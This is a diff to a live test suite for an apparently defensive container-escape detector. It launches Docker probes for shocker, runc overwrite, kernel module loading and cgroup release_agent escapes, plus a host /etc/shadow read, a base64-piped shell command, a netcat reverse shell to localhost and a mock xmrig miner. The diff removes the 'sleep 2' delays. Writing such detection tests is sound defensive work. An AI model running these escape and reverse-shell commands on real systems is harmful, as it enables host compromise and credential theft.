@@ -87,11 +87,9 @@ describe.runIf(live)('kernel-level detection, live', () => {
     spawnSync('docker', ['run', '--rm', '--name', `${prefix}not-allowed`, '--network', 'none', WHITELISTED, 'sh', '-c', 'cat /etc/hostname'], { timeout: 30_000 });
     run('unshare', ['--cap-add', 'SYS_ADMIN'], '/probes/unshare');
     run('ptrace', [], '/probes/ptrace');
-    // Under a shell that stays a moment: a loaded machine may read the audit log after a probe
-    // that lasts milliseconds is gone, and its container is then known through the shell.
-    run('shocker', ['--cap-add', 'DAC_READ_SEARCH'], 'sh', '-c', '/probes/open_by_handle_at; sleep 2');
-    run('runc-overwrite', [], 'sh', '-c', '/probes/proc_exe_write; sleep 2');
-    run('module', ['--security-opt', 'seccomp=unconfined'], 'sh', '-c', '/probes/init_module; sleep 2');
+    run('shocker', ['--cap-add', 'DAC_READ_SEARCH'], '/probes/open_by_handle_at');
+    run('runc-overwrite', [], '/probes/proc_exe_write');
+    run('module', ['--security-opt', 'seccomp=unconfined'], '/probes/init_module');
     run('release-agent', ['--cap-add', 'SYS_ADMIN', '--security-opt', 'apparmor=unconfined'], 'sh', '-c', 'mkdir /cg && mount -t cgroup -o memory cgroup /cg && /probes/release_agent_write /cg/release_agent');
     run('escape-file', ['-v', '/etc:/hostetc:ro'], 'sh', '-c', 'cat /hostetc/shadow >/dev/null');
     run('command', [], 'sh', '-c', 'echo ZWNobyBoaQo= | base64 -d | sh');
@@ -102,9 +100,7 @@ describe.runIf(live)('kernel-level detection, live', () => {
     // Detached: the listener lives in this process, whose event loop must keep running.
     docker('run', '-d', '--name', `${prefix}reverse`, '--network', 'host', TEST_IMAGE, 'nc', '127.0.0.1', String(port), '-e', 'sh');
     await waitFor(() => docker('inspect', '-f', '{{.State.Running}}', `${prefix}reverse`) === 'false', 20_000, 'the reverse shell to end');
-    // The shell stays a moment, as a miner's would: a loaded machine may read the audit log after
-    // the short-lived commands are gone, and their container is then known through this parent.
-    run('miner', [], 'sh', '-c', 'mkdir -p /tmp && cp /bin/busybox /tmp/xmrig && /tmp/xmrig true; sleep 0 -o stratum+tcp://pool.example:3333; sleep 2');
+    run('miner', [], 'sh', '-c', 'mkdir -p /tmp && cp /bin/busybox /tmp/xmrig && /tmp/xmrig true; sleep 0 -o stratum+tcp://pool.example:3333; true');
 
     await new Promise((r) => setTimeout(r, 2500)); // the last audit records and a /proc scan
     vigil.child.kill('SIGTERM');
